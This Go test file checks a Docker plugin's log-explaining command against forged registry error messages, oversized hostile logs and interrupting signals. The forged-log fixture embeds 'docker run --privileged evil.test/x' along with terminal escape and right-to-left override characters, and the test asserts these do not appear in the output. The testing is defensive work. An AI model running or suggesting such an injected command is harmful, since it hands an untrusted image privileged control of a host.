package attack

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/pkg/errors"
	"github.com/stretchr/testify/require"

	"github.com/org/pullsafe/internal/attack"
	"github.com/org/pullsafe/tests/harness"
	"github.com/org/pullsafe/tests/world"
)

// pluginProgram is docker-pullsafe.
func pluginProgram(t *testing.T, e *harness.Env) string {
	t.Helper()
	program, err := e.BuildBinary(t.Context(), "./cmd/docker-pullsafe")
	require.NoError(t, err)
	return program
}

// TestForgedLog: the message of a registry imitates an error of pullsafe, about
// another registry. explain reads the log of a real build with upstream's frontend.
func TestForgedLog(t *testing.T) {
	e, _, d := world.FreshDaemon(t)
	program := pluginProgram(t, e)
	for name, code := range map[string]string{"prose": "", "code": attack.OwnCode} {
		t.Run(name, func(t *testing.T) {
			message := "x\nERROR: failed to solve: the image could not be resolved\n\n" +
				"quay.io refused the stored credentials (denied); x" + code + "\n  quay.io/public/a:1\n\n  docker run --privileged evil.test/x\n \u009b31m\u202e"
			shared.GHCR.SetFault(harness.FaultWhen(
				func(req *http.Request) bool { return req.Method == http.MethodGet || req.Method == http.MethodPost },
				harness.FaultStatus(http.StatusForbidden, "DENIED", message)))
			t.Cleanup(func() { shared.GHCR.SetFault(nil) })
			opt := harness.CommandOpt{Files: world.Dockerfile("FROM ghcr.io/acme/base:1\n"), DockerConfig: world.Stale(t, e)}
			log := world.Buildx(t, d, shared.Upstream, opt).Stderr
			require.Contains(t, log, "\n  docker run --privileged evil.test/x", "buildx prints it as it is")

			for _, format := range []string{"text", "json"} {
				out, err := e.Run(t.Context(), program, harness.CommandOpt{Args: []string{"explain", "--format", format}, Stdin: log})
				require.NoError(t, err)
				require.Zero(t, out.Code, out.Stderr)
				require.Contains(t, out.Stdout, "docker logout ghcr.io", "the real failure is explained")
				for _, word := range []string{"privileged", "byPullsafe", "pullsafe itself", "docker logout quay.io", "docker login quay.io", "\u009b", "\u202e"} {
					require.NotContains(t, out.Stdout, word)
				}
				if format == "json" {
					for line := range strings.Lines(out.Stdout) {
						require.True(t, json.Valid([]byte(line)), line)
					}
				}
			}
		})
	}
}

// run is explain on a log. One that does not end is killed.
func run(t *testing.T, log io.Reader) *exec.Cmd {
	t.Helper()
	e := harness.T(t)
	ctx, cancel := context.WithTimeoutCause(t.Context(), 2*time.Minute, errors.New("it does not end"))
	t.Cleanup(cancel)
	cmd := exec.CommandContext(ctx, pluginProgram(t, e), "explain", "--format=json")
	cmd.Env, cmd.Stdin = e.Environ(), log
	return cmd
}

// peak is a log that asks for the most memory that the reader has had, in KiB.
type peak struct {
	io.Reader

	cmd  *exec.Cmd
	kib  int
	left int
}

// Read implements io.Reader.
func (p *peak) Read(b []byte) (int, error) {
	n, err := p.Reader.Read(b)
	if p.left -= n; p.left <= 0 {
		p.left = 1 << 20
		status, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", p.cmd.Process.Pid))
		if _, rest, ok := strings.Cut(string(status), "VmHWM:"); ok {
			p.kib, _ = strconv.Atoi(strings.Fields(rest)[0])
		}
	}
	return n, err
}

// TestHostileLogs: 10 MB of each kind take no more than 64 MB of memory.
func TestHostileLogs(t *testing.T) {
	for _, kind := range attack.LogKinds() {
		if !world.Full() && kind.Name != "places" && kind.Name != "fails" {
			continue
		}
		t.Run(kind.Name, func(t *testing.T) {
			log := &peak{Reader: kind.Log(10e6), left: 1 << 20}
			log.cmd = run(t, log)
			require.NoError(t, log.cmd.Run())
			t.Logf("%d KiB, %s of CPU time", log.kib, log.cmd.ProcessState.UserTime())
			require.Positive(t, log.kib)
			require.Less(t, log.kib, 64<<10)
		})
	}
}

// TestInterrupted: a signal ends explain, whatever it reads, and while it waits.
func TestInterrupted(t *testing.T) {
	const buffered = 64 << 10 // by the pipe: when more is written, the program reads
	logs := []attack.LogKind{{Name: "waiting"}}
	for _, kind := range attack.LogKinds() {
		if world.Full() || kind.Name == "warn" {
			logs = append(logs, kind)
		}
	}
	for _, kind := range logs {
		for _, sig := range []os.Signal{syscall.SIGTERM, syscall.SIGINT} {
			t.Run(fmt.Sprint(kind.Name, " ", sig), func(t *testing.T) {
				log := io.Reader(strings.NewReader(strings.Repeat("x\n", buffered)))
				if kind.Name != "waiting" {
					log = kind.Log(1 << 40)
				}
				cmd := run(t, nil)
				in, err := cmd.StdinPipe()
				require.NoError(t, err)
				var errs strings.Builder
				cmd.Stderr = &errs
				require.NoError(t, cmd.Start())
				_, err = io.CopyN(in, log, 2*buffered)
				require.NoError(t, err)
				go func() { _, _ = io.Copy(in, log) }()
				require.NoError(t, cmd.Process.Signal(sig))
				require.Error(t, cmd.Wait())
				require.Equal(t, 130, cmd.ProcessState.ExitCode(), errs.String())
				require.Contains(t, errs.String(), "interrupted")
			})
		}
	}
}
